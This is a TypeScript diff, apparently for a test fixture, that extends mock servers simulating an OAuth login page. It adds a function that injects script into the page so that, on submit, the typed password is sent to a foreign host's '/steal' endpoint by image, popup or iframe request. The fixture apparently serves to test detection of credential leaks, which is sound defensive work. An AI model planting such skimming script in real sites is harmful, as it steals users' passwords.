@@ -63,11 +63,33 @@ export function loginPage(action: string): string {
 </form></body></html>`;
 }
 
-export async function startForeignLogin(): Promise<{ target: Site; elsewhere: Site; close(): Promise<void> }> {
+/**
+ * A login form that posts home, but whose script sends the typed password elsewhere as the form
+ * is submitted — `how`: an image, a popup window or an iframe (each a request of its own).
+ */
+export function scriptedLeak(elsewhere: string, how: "image" | "popup" | "iframe"): string {
+  const send = {
+    image: "new Image().src = url",
+    popup: "window.open(url)",
+    iframe: "var f = document.createElement('iframe'); f.src = url; document.body.appendChild(f)",
+  }[how];
+  return loginPage("/session").replace(
+    "</body>",
+    `<script>document.querySelector("form").addEventListener("submit", function (e) {
+  e.preventDefault();
+  var url = ${JSON.stringify(`${elsewhere}/steal?p=`)} + encodeURIComponent(document.querySelector("[name=password]").value);
+  ${send};
+});</script></body>`,
+  );
+}
+
+export type LeakKind = "form" | "image" | "popup" | "iframe";
+
+export async function startForeignLogin(kind: LeakKind = "form"): Promise<{ target: Site; elsewhere: Site; close(): Promise<void> }> {
   // Signed in there, it sends the browser on to the callback (as an identity provider would, in the end).
   const elsewhere = await listen(() => ({ status: 302, body: "", headers: { location: `${CALLBACK}?code=from-elsewhere&state=s-1` } }));
   const target = await listen((req) => {
-    if (req.url?.startsWith("/login/oauth/authorize")) return { status: 200, body: loginPage(`${elsewhere.url}/session`) };
+    if (req.url?.startsWith("/login/oauth/authorize")) return { status: 200, body: kind === "form" ? loginPage(`${elsewhere.url}/session`) : scriptedLeak(elsewhere.url, kind) };
     return { status: 404, type: "application/json", body: JSON.stringify({ message: "Not Found", documentation_url: "https://example.test" }) };
   });
   return {
